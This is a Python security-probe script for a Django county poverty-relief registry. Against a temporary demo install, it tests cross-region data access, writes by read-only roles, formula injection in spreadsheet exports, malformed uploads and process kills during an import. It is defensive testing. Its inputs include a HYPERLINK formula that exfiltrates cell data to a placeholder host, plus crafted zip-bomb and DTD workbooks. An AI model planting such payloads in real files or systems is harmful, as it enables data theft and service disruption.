"""Replay the security probe of issue 26 against a fresh installation of the demo county, and print, for
each kind of attempt, how many were tried, how many were safe and how many leaked.

    .venv/bin/python scripts/probe.py             # the full probe (several minutes)
    .venv/bin/python scripts/probe.py --bounded   # a sample of each kind (the test command runs this)

The installation is a temporary folder with the embedded database. The kinds:
- cross-region: a township's users ask for the other township's records by id (GET) and send them
  forms (POST); a GET leaks when the page shows one of those households' numbers, ID numbers or bank
  accounts, a POST when anything of the other township changed;
- read-only writes: the leader, the inspector and the audit administrator post every form; a write
  leaks when any record changed;
- formula payloads: names that a spreadsheet would run, written by every export; a cell leaks when it
  reads back as a formula;
- malformed files: workbooks and CSVs that no list has, uploaded; one leaks when the upload answers
  with a server error or leaves the batch other than refused with a message;
- kill -9 during a commit: an import's writer killed half-way; it leaks when part of it was written.
Exit status 1 when anything leaked.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import os
import random
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

BASE = Path(__file__).resolve().parent.parent
OTHER = "411723101"  # the township whose records are asked for
OWN_USERS = ("township2_operator", "village21_operator")
READ_ONLY = ("leader", "inspector", "audit_admin")
FORMULAS = ['=HYPERLINK("http://example.invalid/?d="&H2,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
JUNK = {
    "password": "Another-Pass-99",
    "full_name": "x",
    "name": "=1+1",
    "role": "township_operator",
    "region": "411723102",
    "amount": "1",
    "note": "probe",
    "code": "000000",
    "designated": "on",
    "designated_year": "2014",
}


@dataclass
class Tally:
    tried: int = 0
    safe: int = 0
    leaked: int = 0

    def add(self, ok: bool, what: str = "") -> None:
        self.tried += 1
        self.safe += ok
        self.leaked += not ok
        if not ok:
            print(f"    LEAK {what}", file=sys.stderr)


def setup(var: Path) -> None:
    os.environ.update(
        FUPIN_VAR_DIR=str(var),
        FUPIN_ALLOWED_HOSTS="testserver",
        FUPIN_TASK_BACKEND="django_tasks.backends.immediate.ImmediateBackend",
        FUPIN_ADMIN_SECOND_FACTOR="0",  # the probe signs users in directly
        DJANGO_SETTINGS_MODULE="fupin.settings",
    )
    os.environ.pop("FUPIN_DATABASE_URL", None)
    sys.path.insert(0, str(BASE))
    import django

    django.setup()
    import logging
    import warnings

    from django.core.management import call_command

    from fupin.test import seed_demo_county

    logging.disable(logging.CRITICAL)  # every refusal is logged; the tally says what matters
    warnings.filterwarnings("ignore", message="No directory at")
    call_command("migrate", verbosity=0)
    seed_demo_county(households=60)


def client_for(username: str):
    from django.test import Client

    from fupin.accounts.models import User

    client = Client(raise_request_exception=False)
    client.force_login(User.objects.get(username=username))
    return client


def text_of(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response.get("Content-Type", "")
    if kind.startswith("application/vnd.openxmlformats"):
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(content), read_only=True)
        return "\n".join(str(c) for ws in book for row in ws.iter_rows(values_only=True) for c in row)
    return content.decode("utf-8", errors="replace")


def scoped_models():
    from django.apps import apps

    from fupin.audit.models import AuditEvent
    from fupin.jobs.models import Job

    skip = {AuditEvent, Job}
    return [m for m in apps.get_models() if getattr(m, "region_scope", None) and m not in skip]


def fingerprint(prefix: str) -> str:
    """A digest of every record placed under `prefix` (all of them for ""), audit trail and jobs aside."""
    from fupin.access import under

    digest = hashlib.sha256()
    for model in scoped_models():
        rows = model.objects.filter(under(model.region_scope, prefix)) if prefix else model.objects.all()
        rows = rows.order_by("pk")
        for row in rows.values_list():
            digest.update(repr(row).encode())
    return digest.hexdigest()


def markers() -> list[str]:
    """What of the other township must never reach its neighbour: household numbers, ID numbers, accounts."""
    from fupin.registry.models import Household, Member

    households = Household.objects.filter(region__code__startswith=OTHER)
    found = list(households.values_list("household_no", flat=True))
    found += list(households.exclude(bank_account="").values_list("bank_account", flat=True))
    found += list(Member.objects.filter(household__region__code__startswith=OTHER).values_list("id_number", flat=True))
    return found


def url_patterns():
    from django.urls import URLPattern, URLResolver, get_resolver

    def walk(resolver, namespace=""):
        for entry in resolver.url_patterns:
            if isinstance(entry, URLResolver):
                yield from walk(entry, f"{namespace}{entry.namespace}:" if entry.namespace else namespace)
            elif isinstance(entry, URLPattern) and entry.name:
                yield f"{namespace}{entry.name}", entry

    return list(walk(get_resolver()))


def other_township_urls(sample: int) -> list[str]:
    """Every URL naming a record, filled with ids of the other township's records."""
    from django.urls import NoReverseMatch, reverse

    from fupin.access import under

    ids = set()
    for model in scoped_models():
        rows = model.objects.filter(under(model.region_scope, OTHER))
        ids.update(rows.values_list("pk", flat=True)[:50])
    ids = sorted(i for i in ids if isinstance(i, int))
    picked = random.Random(26).sample(ids, min(sample, len(ids)))
    urls = []
    for name, pattern in url_patterns():
        keys = set(pattern.pattern.regex.groupindex)
        if "pk" in keys:
            extra = {k: v for k, v in {"year": 2026, "kind": "before"}.items() if k in keys}
            for pk in picked:
                try:
                    urls.append(reverse(name, kwargs={"pk": pk, **extra}))
                except NoReverseMatch:
                    break
        elif keys == {"code"}:
            urls.append(reverse(name, kwargs={"code": f"{OTHER}200"}))
            urls.append(reverse(name, kwargs={"code": OTHER}))
    return urls


def probe_cross_region(sample: int) -> tuple[Tally, Tally]:
    gets, posts = Tally(), Tally()
    secrets = markers()
    urls = other_township_urls(sample)
    clients = {username: client_for(username) for username in OWN_USERS}
    before = fingerprint(OTHER)
    for username, client in clients.items():
        for url in urls:
            response = client.get(url)
            text = text_of(response) if response.status_code == 200 else ""
            gets.add(not any(s in text for s in secrets), f"GET {url} as {username}")
            response = client.post(url, JUNK)
            posts.add(response.status_code != 500 and fingerprint(OTHER) == before, f"POST {url} as {username}")
    return gets, posts


def probe_read_only_writes(sample: int) -> Tally:
    from django.urls import NoReverseMatch, reverse

    tally = Tally()
    ids = [1, 2, 3, 5, 8, 13, 21, 34][: max(2, sample // 4)]
    clients = {username: client_for(username) for username in READ_ONLY}  # signing in sets last_login
    before = fingerprint("")
    for username, client in clients.items():
        for name, pattern in url_patterns():
            keys = set(pattern.pattern.regex.groupindex)
            for pk in ids if "pk" in keys else [None]:
                kwargs = {"pk": pk} if pk else {}
                kwargs.update({k: v for k, v in {"year": 2026, "kind": "before"}.items() if k in keys})
                if keys - set(kwargs):
                    continue
                try:
                    url = reverse(name, kwargs=kwargs)
                except NoReverseMatch:
                    continue
                if name in ("accounts:logout", "accounts:login", "set_language", "accounts:password_change"):
                    continue
                response = client.post(url, JUNK)
                ok = response.status_code != 500 and fingerprint("") == before
                tally.add(ok, f"POST {url} as {username}: {response.status_code}")
    return tally


def cells_of(response) -> list[tuple[str, bool]]:
    """Every cell as (text, whether a spreadsheet would run it)."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response.get("Content-Type", "").startswith("application/vnd.openxmlformats"):
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(content))
        return [(str(c.value), c.data_type == "f") for ws in book for row in ws.iter_rows() for c in row]
    text = content.decode("utf-8-sig", errors="replace")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [(cell, cell.startswith(("=", "+", "-", "@", "\t", "\r"))) for cell in cells]


def probe_formulas() -> Tally:
    from django.urls import reverse

    from fupin.accounts.models import User
    from fupin.audit.actions import record_event
    from fupin.audit.models import EventType
    from fupin.microcredit.models import Loan
    from fupin.projects.models import Project
    from fupin.registry.models import Household
    from fupin.transfer import pipeline
    from fupin.transfer.spec import get_spec

    tally = Tally()
    operator = User.objects.get(username="county_operator")
    households, projects, loans = (
        list(m.objects.order_by("pk").values_list("pk", flat=True)) for m in (Household, Project, Loan)
    )
    for i, payload in enumerate(FORMULAS):
        Household.objects.filter(pk=households[i % len(households)]).update(group_name=payload)
        Project.objects.filter(pk=projects[i % len(projects)]).update(name=payload)
        Loan.objects.filter(pk=loans[i % len(loans)]).update(bank=payload)
        record_event(actor=operator, event_type=EventType.UPDATE, target_repr=payload, region_code="411723")
    rows = [{"户编号": "A1", "村民小组": payload} for payload in FORMULAS]
    header = list(rows[0])
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, header)
    writer.writeheader()
    writer.writerows(rows)
    batch = pipeline.stage(
        spec=get_spec("households"), filename="x.csv", content=buffer.getvalue().encode(), by=operator
    )
    exports = [
        ("county_operator", reverse("registry:export", kwargs={"fmt": "xlsx"})),
        ("county_operator", reverse("registry:export", kwargs={"fmt": "csv"})),
        ("county_operator", reverse("registry:export", kwargs={"fmt": "csv"}) + "?full=1&layout=template"),
        ("county_operator", reverse("projects:list") + "?export=xlsx"),
        ("county_operator", reverse("microcredit:list") + "?export=xlsx"),
        ("county_operator", reverse("transfer:report", args=[batch.pk])),
        ("audit_admin", reverse("audit:export")),
    ]
    for username, url in exports:
        cells = cells_of(client_for(username).get(url))
        for payload in FORMULAS:
            shown = [runs for text, runs in cells if payload.strip() in text]
            if shown:  # (a payload the export's rows leave out is not counted)
                tally.add(not any(shown), f"{url} {payload!r} runs")
    return tally


def _workbook(sheet_xml: str, *, lie_about_size: bool = False) -> bytes:
    from fupin.transfer.tests.test_ooxml import _xlsx

    data = bytearray(_xlsx(sheet_xml))
    if lie_about_size:  # the central directory claims 4 GB for every member: a zip bomb's declaration
        at = data.find(b"PK\x01\x02")
        while at != -1:
            data[at + 24 : at + 28] = (0xFFFFFFF0).to_bytes(4, "little")
            at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def malformed_files(bounded: bool) -> list[tuple[str, bytes]]:
    ns = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
    files = [
        (
            "far-cell.xlsx",
            _workbook(
                ns.format(
                    '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                )
            ),
        ),
        ("too-many-rows.xlsx", _workbook(ns.format('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'))),
        (
            "long-cell.xlsx",
            _workbook(ns.format('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "长" * 40_000 + "</t></is></c></row>")),
        ),
        (
            "dtd.xlsx",
            _workbook('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l "l">]><worksheet><sheetData/></worksheet>'),
        ),
        ("bomb.xlsx", _workbook(ns.format(""), lie_about_size=True)),
        ("missing-string.xlsx", _workbook(ns.format('<row r="1"><c r="A1" t="s"><v>7</v></c></row>'))),
        ("not-a-workbook.xlsx", b"not a spreadsheet"),
        ("broken-zip.xlsx", b"PK\x03\x04broken"),
        ("garbage.xls", os.urandom(4096)),
        ("garbage.ods", os.urandom(4096)),
        ("empty.csv", b""),
        ("header-only.csv", "户编号,姓名\n".encode()),
        ("wide.csv", ",".join(["a"] * 1001).encode()),
        ("long-field.csv", ("a," + "b" * 40_000).encode()),
        ("bytes.csv", os.urandom(2048)),
    ]
    if not bounded:
        files.append(("too-big.csv", b"a,b\n" * (13 * 1024 * 1024)))
    return files


def probe_malformed(bounded: bool) -> Tally:
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from fupin.transfer.models import ImportBatch

    tally = Tally()
    client = client_for("county_operator")
    for name, content in malformed_files(bounded):
        last = ImportBatch.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
        response = client.post(
            reverse("transfer:upload", args=["households"]), {"file": SimpleUploadedFile(name, content)}
        )
        batch = ImportBatch.objects.filter(pk__gt=last).first()
        refused = batch is None or (batch.status == ImportBatch.Status.INVALID and bool(batch.file_errors))
        ok = response.status_code in (200, 302) and refused and (batch is None or len(str(batch.header)) < 100_000)
        tally.add(ok, f"{name}: {response.status_code} {batch and batch.status}")
    return tally


def probe_kill_during_commit(var: Path, households: int) -> tuple[Tally, str]:
    """Import a county's list in a child process and kill it with SIGKILL at growing delays after its
    check (timed by a dry run), until one run finishes first; every kill must leave all or nothing."""
    import importlib.util

    from django.db import connection

    from fupin.registry.models import Household

    sys.path.insert(0, str(BASE / "bench"))  # its harness module
    spec = importlib.util.spec_from_file_location("bench_import", BASE / "bench" / "import_households.py")
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    path = var / "list.xlsx"
    bench.write_national_xlsx(path, households, county="411724")  # a county the demo has no households in
    command = [sys.executable, str(BASE / "manage.py"), "import_households", str(path), "--format", "national"]
    command += ["--user", "probe_operator", "--data-date", "2025-12-31"]
    connection.close()
    began = time.monotonic()
    dry = subprocess.run([*command, "--dry-run"], env=os.environ, capture_output=True, text=True)
    if dry.returncode:
        raise RuntimeError(f"the list to import does not check: {dry.stdout[-2000:]} {dry.stderr[-2000:]}")
    checked = time.monotonic() - began
    tally, outcomes = Tally(), []
    for share in (0.7, 0.9, 1.0, 1.1, 1.25, 1.5, 2.0, 3.0):  # of the dry run's time: around the commit
        before = Household.objects.count()
        connection.close()
        child = subprocess.Popen(command, env=os.environ, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            child.wait(timeout=checked * share)
            killed = False
        except subprocess.TimeoutExpired:
            child.send_signal(signal.SIGKILL)
            child.wait()
            killed = True
        written = Household.objects.count() - before
        with connection.cursor() as cursor:
            cursor.execute("PRAGMA integrity_check")
            intact = cursor.fetchone()[0] == "ok"
        tally.add(intact and written in (0, households), f"{written} of {households} written")
        outcomes.append(
            ("killed" if killed else "finished") + (" with nothing written" if not written else " after writing all")
        )
        if written:  # it has committed: later runs would change nothing
            break
    note = "; ".join(f"{n}× {o}" for o, n in Counter(outcomes).items())
    return tally, note


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--bounded", action="store_true", help="a sample of each kind (a minute or two)")
    args = parser.parse_args()
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="fupin-probe-") as folder:
        var = Path(folder)
        setup(var)
        from fupin.accounts.roles import Role
        from fupin.test import make_user

        make_user("probe_operator", Role.COUNTY_OPERATOR, "411724")
        sample = 4 if args.bounded else 40
        results = {}
        results["cross-region GET"], results["cross-region POST"] = probe_cross_region(sample)
        results["read-only roles' writes"] = probe_read_only_writes(sample)
        results["formula payloads in exports"] = probe_formulas()
        results["malformed imports"] = probe_malformed(args.bounded)
        results["kill -9 during a commit"], note = probe_kill_during_commit(var, 2_000 if args.bounded else 20_000)
    print(f"{'probe':<30}{'tried':>8}{'safe':>8}{'leaked':>8}")
    for name, tally in results.items():
        print(f"{name:<30}{tally.tried:>8}{tally.safe:>8}{tally.leaked:>8}")
    print(f"kill -9: {note}")
    print(f"{time.monotonic() - started:.0f} s")
    return 1 if any(t.leaked for t in results.values()) else 0


if __name__ == "__main__":
    sys.exit(main())
